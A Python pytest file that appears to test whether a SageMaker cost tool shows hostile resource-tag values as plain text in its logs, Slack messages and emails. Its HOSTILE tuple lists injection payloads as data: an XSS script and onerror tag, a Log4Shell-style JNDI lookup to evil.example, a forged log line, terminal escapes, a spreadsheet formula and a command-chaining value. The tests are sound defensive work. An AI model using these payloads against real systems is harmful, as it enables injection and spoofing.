"""What a tag says is shown as text: it formats nothing, mentions nobody, runs nothing.

SageMaker takes letters, numbers, spaces and ``_.:/=+-@`` in tags; other services take more, and so
may SageMaker one day: the texts here go beyond what it takes today.
"""

import json
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from sagewarden_cli.slack import LocalSlack
from tests.integration.entrypoints.conftest import POLICY, Stack
from tests.integration.entrypoints.slack_stack import SlackStack, add_slack
from tests.support.invocations import REGION, a_request, an_sqs_event

pytestmark = pytest.mark.aws

BEFORE_CLOSING = datetime(2026, 11, 18, 17, 30, tzinfo=UTC)
"""Half an hour before Wednesday's closing."""
SCHEDULED = POLICY.replace(
    "    outside: office\n", "    outside: office\n    schedule_tag: Hours\n", 1
)
OWNERS = 'owners: {fallback_channel: "#ml-costs", approvers: ["@ml-platform"]}\n'

HOSTILE = (
    "<!channel> <@U000000001> <!subteam^S000000001>",
    "<https://evil.example|Keep>",
    "*bold* _it_ ~gone~ `code` > quote",
    "[bold red]x[/bold red] [link=https://evil.example]y[/link]",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{7*7}} ${jndi:ldap://evil.example} {0.__class__} %(asctime)s %n",
    'x"}\n{"level":"INFO","message":"outcome","outcome":"APPLIED"}',
    "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\u202e\u2028end",
    '=HYPERLINK("https://evil.example")',
    "mon-sun 00:00-00:00 && true",
)
"""A mention, a link, formats, markup, HTML, templates, a log line, a terminal's and a sheet's
commands, and an expression."""


@pytest.fixture
def tagged(stack: Stack) -> Stack:
    """A stack under whose policy a notebook for each text, as its owner, is soon to be stopped.

    Each has a second one beside it, in whose schedule it stands.
    """
    stack.policy(SCHEDULED + OWNERS)
    fleet = stack.sandbox.sagemaker(region=REGION)
    for number, text in enumerate(HOSTILE):
        tags = {"Owner": text, "Team": text}
        fleet.add_notebook_instance(f"nb-{number}", status="InService", tags=tags)
        tags = {"Owner": "tom", "Hours": text}
        fleet.add_notebook_instance(f"odd-{number}", status="InService", tags=tags)
    stack.at(BEFORE_CLOSING)
    return stack


@pytest.fixture
def talking(tagged: Stack, monkeypatch: pytest.MonkeyPatch) -> Iterator[SlackStack]:
    """The same with Slack."""
    with LocalSlack(tagged.clock) as slack:
        slack.add_user("tom", email="tom@example.com")
        slack.add_channel("ml-costs", ["tom"])
        slack.add_group("ml-platform", ["tom"])
        yield add_slack(tagged, slack, monkeypatch)


def sweep(stack: Stack) -> None:
    stack.bot("notebook_hours")(an_sqs_event(a_request()))


def test_it_is_one_value_in_one_line_of_the_log_and_no_schedule(
    tagged: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    sweep(tagged)

    lines = [json.loads(line) for line in capsys.readouterr().out.split("\n") if line]
    said = Counter(line.get("message") for line in lines)
    verdicts = [line for line in lines if line.get("message") == "verdict"]
    odd = {line["verdict"] for line in verdicts if "/odd-" in line["resource"]}
    expected = {"verdict": 2 * len(HOSTILE), "warned": len(HOSTILE), "run cost": 1, None: 1}
    assert said == expected
    assert odd == {"UNKNOWN"}


def test_in_slack_it_formats_links_and_mentions_nothing(talking: SlackStack) -> None:
    sweep(talking.stack)
    for parcel in talking.parcels():
        talking.notify(parcel)

    blocks = [one.blocks for one in talking.slack.messages("ml-costs")]
    said = json.dumps(blocks, ensure_ascii=False)
    assert all(f"`nb-{number}`" in said for number in range(len(HOSTILE)))
    for active in ("<!channel", "<@U", "<!subteam", "<https://evil", "*bold*", "\\u001b"):
        assert active not in said


def test_a_mail_has_it_as_text(tagged: Stack) -> None:
    sweep(tagged)

    mails = tagged.mail()
    assert mails
    for mail in mails:
        assert mail["Subject"].isprintable()
        assert not any(line.startswith('{"level"') for line in mail["Message"].splitlines())
        assert not {"\x1b", "\x07", "\u202e"} & set(mail["Message"])
